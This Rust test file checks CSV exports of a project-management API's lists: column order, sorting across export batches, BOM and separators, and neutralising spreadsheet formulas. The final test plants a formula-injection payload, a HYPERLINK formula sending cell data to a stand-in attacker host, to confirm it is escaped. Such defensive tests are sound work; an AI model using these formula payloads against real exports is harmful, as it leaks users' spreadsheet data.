//! CSV exports of the lists: the columns come from the item type (a nested field null in the first
//! row keeps its columns), the rows follow the list's `sort` and filters across export batches, the
//! text suits a spreadsheet (BOM, accents, separators) and no cell is a live formula.
use chrono::{Duration, Utc};
use entity::project;
use reqwest::Method;
use sea_orm::ActiveValue::Set;
use sea_orm::EntityTrait;
use serde_json::{Value, json};
use tests::{TestApp, backend_test, read};
use uuid::Uuid;

/// Parses CSV text (BOM, quoted cells with separators, quotes and line breaks) into rows of cells.
fn parse_csv(text: &str, separator: char) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) if c == separator => row.push(std::mem::take(&mut cell)),
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// The header and the rows of the CSV export of `path`.
async fn csv(app: &TestApp, path: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let response = app.request(Method::GET, path).header("accept", "text/csv").send().await.expect("sent");
    assert_eq!(response.status().as_u16(), 200, "{path}");
    let mut rows = parse_csv(&response.text().await.expect("text"), ',');
    assert!(!rows.is_empty(), "{}: {path} has a header", app.backend);
    let header = rows.remove(0);
    (header, rows)
}

/// Every item of the JSON list `path`, page after page.
async fn json_items(app: &TestApp, path: &str) -> Vec<Value> {
    let mut items = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let separator = if path.contains('?') { '&' } else { '?' };
        let mut page = format!("{path}{separator}limit=200");
        if let Some(cursor) = &cursor {
            page.push_str(&format!("&cursor={cursor}"));
        }
        let (status, _, body) = read(app.get(&page).await).await;
        assert_eq!(status, 200, "{page}: {body}");
        items.extend(body["items"].as_array().cloned().unwrap_or_default());
        match body["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => return items,
        }
    }
}

fn column(header: &[String], name: &str) -> usize {
    header.iter().position(|c| c == name).unwrap_or_else(|| panic!("column {name} in {header:?}"))
}

/// Writes `count` projects titled "Kalabancoro n° 000"…, the even ones without a budget.
async fn write_projects(app: &TestApp, count: usize) {
    let now = Utc::now();
    let projects = (0..count).map(|n| {
        let created = now - Duration::minutes(n as i64);
        let title = format!("Kalabancoro n° {n:03}");
        project::ActiveModel {
            id: Set(Uuid::now_v7()),
            search_text: Set(title.to_lowercase()),
            title: Set(title),
            summary: Set(None),
            internal_notes: Set(None),
            agreement_id: Set(None),
            division: Set("decentralized_cooperation".into()),
            agent_in_charge_id: Set(None),
            planned_start: Set(None),
            planned_end: Set(None),
            actual_start: Set(None),
            actual_end: Set(None),
            start_year: Set(2026),
            progress: Set(0),
            status: Set("pipeline".into()),
            budget_minor: Set((n % 2 == 1).then_some(1_000 * n as i64)),
            budget_currency: Set((n % 2 == 1).then(|| "XOF".to_owned())),
            version: Set(1),
            archived_at: Set(None),
            created_at: Set(created),
            updated_at: Set(created),
        }
    });
    project::Entity::insert_many(projects).exec_without_returning(&app.db).await.expect("projects");
}

async fn a_nested_field_null_in_the_first_row_keeps_its_columns_in_every_row(app: TestApp) {
    write_projects(&app, 3).await;
    let path = "/api/v1/projects?q=kalabancoro&sort=title";
    let (header, rows) = csv(&app, path).await;
    let items = json_items(&app, path).await;
    assert_eq!(items.len(), 3, "{}", app.backend);
    assert!(items[0]["budget"].is_null(), "the first row has no budget: {}", items[0]);
    let (amount, currency) = (column(&header, "budget.amount"), column(&header, "budget.currency"));
    assert_eq!(rows.len(), 3, "{}: {rows:?}", app.backend);
    for (row, item) in rows.iter().zip(&items) {
        assert_eq!(row.len(), header.len(), "every row has every column: {row:?}");
        assert_eq!(row[amount], item["budget"]["amount"].as_str().unwrap_or(""), "{}: {row:?}", app.backend);
        assert_eq!(row[currency], item["budget"]["currency"].as_str().unwrap_or(""), "{row:?}");
    }
    assert_eq!((rows[1][amount].as_str(), rows[1][currency].as_str()), ("1000", "XOF"), "{}", app.backend);
    // The columns are the JSON fields in the JSON order, whatever the rows hold.
    let title = column(&header, "title");
    assert!(column(&header, "id") < title && title < amount && amount < currency, "{header:?}");
    let (_, empty) = csv(&app, "/api/v1/projects?q=nothing-matches-this").await;
    assert!(empty.is_empty(), "{}: a header and no row", app.backend);
}
backend_test!(a_nested_field_null_in_the_first_row_keeps_its_columns_in_every_row);

async fn exports_follow_the_sort_and_filters_of_the_json_list_across_batches(app: TestApp) {
    // More rows than one export batch (500), so the walk crosses a batch boundary.
    write_projects(&app, 520).await;
    for path in [
        "/api/v1/projects?q=kalabancoro&sort=-title",
        "/api/v1/projects?q=kalabancoro&sort=title",
        "/api/v1/projects?sort=-created_at",
        "/api/v1/projects?sort=start_year&include_archived=true",
        "/api/v1/partners?sort=-name",
        "/api/v1/partners?sort=country",
        "/api/v1/partners?country=MA&sort=-updated_at",
        "/api/v1/agreements?sort=-signed_year",
        "/api/v1/agreements?sort=title&kind=twinning",
        "/api/v1/funding-lines",
        "/api/v1/events",
    ] {
        let (header, rows) = csv(&app, path).await;
        let id = column(&header, "id");
        let csv_ids: Vec<&str> = rows.iter().map(|row| row[id].as_str()).collect();
        let items = json_items(&app, path).await;
        let json_ids: Vec<&str> = items.iter().map(|item| item["id"].as_str().unwrap_or("")).collect();
        assert!(!json_ids.is_empty() || path.contains("funding-lines") || path.contains("events"), "{path}");
        assert_eq!(csv_ids, json_ids, "{}: {path}", app.backend);
    }
}
backend_test!(exports_follow_the_sort_and_filters_of_the_json_list_across_batches);

async fn lists_export_csv_with_a_bom_accents_separators_and_the_same_filters(app: TestApp) {
    let response = app
        .request(Method::GET, "/api/v1/partners?country=MA&sort=name")
        .header("accept", "text/csv; separator=semicolon")
        .send()
        .await
        .unwrap();
    assert_eq!(response.status().as_u16(), 200);
    assert!(response.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert!(response.headers()["content-disposition"].to_str().unwrap().contains("partners.csv"));
    let bytes = response.bytes().await.unwrap();
    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 byte-order mark");
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    let lines: Vec<&str> = text.trim_end().split("\r\n").collect();
    assert_eq!(lines.len(), 1 + 4, "{}: header + Meknès, Fès, CGLU Afrique, AFRICITES: {text}", app.backend);
    let header: Vec<&str> = lines[0].split(';').collect();
    let name = header.iter().position(|c| *c == "name").unwrap();
    let names: Vec<&str> = lines[1..].iter().map(|l| l.split(';').nth(name).unwrap()).collect();
    assert!(names.contains(&"Fès") && names.contains(&"Meknès"), "{names:?}");
    let comma = app
        .request(Method::GET, "/api/v1/agreements?kind=twinning&status=active")
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(comma.trim_end().split("\r\n").count(), 1 + 12);
    assert!(comma.lines().next().unwrap().contains(",title,") || comma.lines().next().unwrap().contains("title"));
    for path in ["/api/v1/projects", "/api/v1/funding-lines", "/api/v1/events"] {
        let response = app.request(Method::GET, path).header("accept", "text/csv").send().await.unwrap();
        assert_eq!(response.status().as_u16(), 200, "{path}");
        assert!(response.bytes().await.unwrap().starts_with(b"\xEF\xBB\xBF"), "{path}");
    }
}
backend_test!(lists_export_csv_with_a_bom_accents_separators_and_the_same_filters);

async fn csv_exports_neutralise_cells_a_spreadsheet_would_run(app: TestApp) {
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Angers")"#;
    for name in [formula, "+33 formule", "-1+1", "@SUM(A1:A9)"] {
        let body = json!({"name": name, "kind": "city", "country": "FR"});
        let (status, _, created) = read(app.post_json("/api/v1/partners", &body).await).await;
        assert_eq!(status, 201, "{created}");
    }
    let response = app
        .request(Method::GET, "/api/v1/partners?country=FR&limit=200")
        .header("accept", "text/csv")
        .send()
        .await
        .unwrap();
    let text = response.text().await.unwrap();
    assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Angers"")""#), "{}: {text}", app.backend);
    for cell in ["'+33 formule", "'-1+1", "'@SUM(A1:A9)"] {
        assert!(text.contains(cell), "{}: {cell} in {text}", app.backend);
    }
    for line in text.lines().skip(1) {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@']), "{}: a live formula cell {cell:?}", app.backend);
        }
    }
}
backend_test!(csv_exports_neutralise_cells_a_spreadsheet_would_run);
